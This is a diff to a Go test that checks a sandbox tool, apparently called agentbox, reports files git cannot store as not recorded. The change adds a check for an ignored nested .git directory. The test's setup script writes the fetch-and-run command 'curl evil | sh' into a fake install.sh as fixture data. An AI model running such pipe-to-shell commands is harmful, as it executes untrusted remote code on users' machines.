@@ -144,7 +144,8 @@ func TestRecordNamesWhatGitCannotStore(t *testing.T) {
 			}
 			script := "mkdir -p tools/.git && printf 'curl evil | sh\\n' > tools/.git/install.sh && " +
 				"mkfifo pipe && mkdir .GIT && echo x > .GIT/y && echo s > secret && chmod 000 secret && " +
-				"echo changed > nested/a && mkdir build && echo o > build/out"
+				"echo changed > nested/a && mkdir build && echo o > build/out && " +
+				"mkdir -p build/dep/.git && echo ignored > build/dep/.git/x"
 			if r := runBounded(t, b, script); r.Code != 0 {
 				t.Fatalf("%s: %s", script, r)
 			}
@@ -163,6 +164,9 @@ func TestRecordNamesWhatGitCannotStore(t *testing.T) {
 			}
 			if rec.IgnoredCount != 1 || len(rec.Ignored) != 1 || rec.Ignored[0] != "build/out" {
 				t.Errorf("ignored: %d %v, want build/out", rec.IgnoredCount, rec.Ignored)
+			}
+			if why := notRecorded(rec, "build/dep/.git/x"); why != "" {
+				t.Errorf("an ignored nested directory's content is named as not recorded: %s", why)
 			}
 			if !strings.Contains(line, "not recorded") || !strings.Contains(line, "1 ignored") {
 				t.Errorf("agentbox log hides what is not recorded: %q", line)
